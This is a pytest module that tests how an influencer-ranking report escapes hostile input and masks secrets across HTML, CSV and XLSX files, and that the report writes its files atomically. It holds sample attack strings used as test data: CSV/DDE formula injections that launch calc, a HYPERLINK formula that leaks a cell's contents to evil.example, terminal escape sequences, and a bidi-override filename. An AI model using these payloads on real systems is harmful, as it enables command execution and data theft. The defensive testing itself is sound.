"""The report shows nothing it must not (issue 14): escapes, secrets, formulas; one set of files.

Tables with hostile text in every place a person's or a sheet's text reaches the report
(analysts' display names and merged-into ids, video URLs with credentials and signed tokens,
error strings with escape sequences, characters the XLSX format forbids) are written; the files
must hold no unprintable character, no planted secret and no live formula, and a report that
fails - while rendering or while moving its files into place - leaves the previous set as it was.
"""

from __future__ import annotations

import os
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from influencer_pipeline.ranking import report, report_files
from influencer_pipeline.ranking.metrics import rank_influencers
from influencer_pipeline.ranking.report import write_report
from influencer_pipeline_tests.hostile.shown import ESCAPES, FORMULAS, SECRET_URLS, leaks
from influencer_pipeline_tests.hostile.shown_checks import csv_cells, report_problems
from influencer_pipeline_tests.ranking.test_report import FAILED, make_ranked, make_videos

XLSX_FORBIDDEN = "\x00\x01\x08\x0b\x0c\x0e\x1f"  # characters openpyxl refuses to write
MERGED_INTO = "=cmd|' /C calc'!A0"  # an id an analyst typed as a merge target


def hostile_tables() -> tuple[pd.DataFrame, pd.DataFrame]:
    """(ranked, videos) with hostile names, ids, URLs and errors everywhere they can appear."""
    videos = make_videos()
    first = videos["influencer_id"].dropna().iloc[0]
    videos["influencer_id"] = videos["influencer_id"].replace(first, MERGED_INTO)
    ids = sorted(videos["influencer_id"].dropna().unique())
    names = [*FORMULAS, *ESCAPES.values(), "name" + XLSX_FORBIDDEN, "$\\frac{1}{0}$ $$"]
    videos["influencer_name"] = videos["influencer_id"].map(dict(zip(ids, names, strict=False)))
    urls = [*SECRET_URLS, *(f"https://cdn.example/{e}.mp4" for e in ESCAPES.values())]
    videos["video_url"] = [urls[i % len(urls)] for i in range(len(videos))]
    failed = videos["status"] == "failed"
    videos.loc[failed, "error"] = [
        f"HTTP 404 Not\x1b]0;pwned\x07 Found{XLSX_FORBIDDEN} sig=errSECRET",
        '=HYPERLINK("http://evil.example")' + ESCAPES["bidi_override"],
    ][: int(failed.sum())]
    ranked = make_ranked(videos)
    ranked["influencer_name"] = ranked["influencer_id"].map(
        videos.dropna(subset=["influencer_id"]).groupby("influencer_id")["influencer_name"].first()
    )
    return ranked, videos


def test_hostile_text_is_shown_safely_in_every_file(tmp_path: Path) -> None:
    ranked, videos = hostile_tables()
    files = write_report(ranked, videos, tmp_path)
    assert report_problems(tmp_path) == []
    page = files.html.read_text(encoding="utf-8")
    assert "credentials hidden" in page and "sig=***" in page
    assert not [h for h in page.split('href="')[1:] if "***" in h.split('"')[0]]  # no dead links
    assert "Not\\x1b]0;pwned\\x07 Found" in page  # escapes visible, not acted on


def test_formulas_are_text_cells_in_xlsx_and_quoted_in_csv(tmp_path: Path) -> None:
    ranked, videos = hostile_tables()
    files = write_report(ranked, videos, tmp_path)
    workbook = openpyxl.load_workbook(files.xlsx)
    cells = [c for s in workbook.worksheets for row in s.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = {c.value: c for c in cells if isinstance(c.value, str)}
    formula = names['=HYPERLINK("http://evil.example/?leak="&A1,"click")']  # kept as text
    assert formula.data_type == "s" and formula.quotePrefix
    assert names[MERGED_INTO].data_type == "s" and names[MERGED_INTO].quotePrefix
    shown = csv_cells(files.csv)
    assert "'" + MERGED_INTO in shown and "'" + FORMULAS[0] in shown


@pytest.mark.parametrize(
    ("name", "csv_cell"),
    [
        ('=HYPERLINK("http://e.example","x")', '\'=HYPERLINK("http://e.example","x")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\\x09=1+1"),
        ("\r=1+1", "'\\x0d=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Sarah (@sarah)", "Sarah (@sarah)"),
    ],
)
def test_every_formula_start_is_quoted_in_the_csv(tmp_path: Path, name: str, csv_cell: str):
    ranked, videos = hostile_tables()
    ranked["influencer_name"] = name
    files = write_report(ranked, videos, tmp_path)
    assert csv_cells(files.csv).count(csv_cell) == len(ranked)
    kinds = {c.data_type for row in openpyxl.load_workbook(files.xlsx)["leaderboard"] for c in row}
    assert "f" not in kinds


def test_characters_the_xlsx_format_forbids_do_not_stop_the_report(tmp_path: Path) -> None:
    ranked, videos = hostile_tables()
    ranked["influencer_name"] = "ctrl" + XLSX_FORBIDDEN + "\ud800"
    files = write_report(ranked, videos, tmp_path)
    values = [c.value for s in openpyxl.load_workbook(files.xlsx) for row in s for c in row]
    assert "ctrl\\x00\\x01\\x08\\x0b\\x0c\\x0e\\x1f\\ud800" in values


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def test_a_report_that_fails_to_render_leaves_the_previous_set(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ranked, videos = hostile_tables()
    write_report(ranked, videos, tmp_path)
    before = _snapshot(tmp_path)

    def broken(*_args: object) -> bytes:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(report, "xlsx_bytes", broken)
    with pytest.raises(RuntimeError, match="disk on fire"):
        write_report(ranked.head(2), videos, tmp_path)
    assert _snapshot(tmp_path) == before


def test_a_report_that_fails_while_moving_leaves_the_previous_set(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ranked, videos = hostile_tables()
    write_report(ranked, videos, tmp_path)
    before = _snapshot(tmp_path)
    real, moves = os.replace, []

    def third_move_fails(src: object, dst: object) -> None:
        moves.append(dst)
        if len(moves) == 3:
            raise OSError("no space left on device")
        real(src, dst)

    monkeypatch.setattr(report_files.os, "replace", third_move_fails)
    with pytest.raises(OSError, match="no space"):
        write_report(ranked.head(2), videos, tmp_path)
    monkeypatch.undo()
    assert _snapshot(tmp_path) == before  # two new files were moved in, then put back


def test_a_first_report_that_fails_leaves_no_partial_set(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ranked, videos = hostile_tables()
    real, moves = os.replace, []

    def second_move_fails(src: object, dst: object) -> None:
        moves.append(dst)
        if len(moves) == 2:
            raise OSError("gone")
        real(src, dst)

    monkeypatch.setattr(report_files.os, "replace", second_move_fails)
    with pytest.raises(OSError):
        write_report(ranked, videos, tmp_path / "out")
    assert list((tmp_path / "out").iterdir()) == []


def _videos(spec: dict[str, list[float]]) -> pd.DataFrame:
    rows = [
        {"video_id": f"{k}{i:015d}", "video_url": f"https://cdn.example/{k}{i}.mp4",
         "performance": p, "status": "ok", "error": None, "influencer_id": f"F-{k}",
         "method": "face", "duplicate_of": None}
        for k, perfs in spec.items() for i, p in enumerate(perfs)
    ]  # fmt: skip
    return pd.DataFrame(rows)


def test_the_report_says_when_the_data_cannot_tell_influencers_apart(tmp_path: Path) -> None:
    homogeneous = _videos({"a": [0.2, 0.7, 0.45], "b": [0.6], "c": [0.3, 0.7], "d": [0.55, 0.45]})
    files = write_report(rank_influencers(homogeneous), homogeneous, tmp_path / "same")
    page = files.html.read_text(encoding="utf-8")
    assert 'id="indistinct"' in page and "cannot tell these 4 influencers apart" in page
    board = pd.read_csv(files.csv)
    assert not board["distinguishable"].any() and board["heterogeneity_p"].between(0, 1).all()
    apart = _videos({"a": [0.1, 0.12, 0.11, 0.09], "b": [0.9, 0.88, 0.91, 0.92], "c": [0.5, 0.52]})
    page = write_report(rank_influencers(apart), apart, tmp_path / "apart").html.read_text()
    assert 'id="indistinct"' not in page


def test_failed_errors_are_listed_safely(tmp_path: Path) -> None:
    ranked, videos = hostile_tables()
    page = write_report(ranked, videos, tmp_path).html.read_text(encoding="utf-8")
    assert len(FAILED) == 2 and not leaks(page)
    assert "\\u202egnp.exe" in page
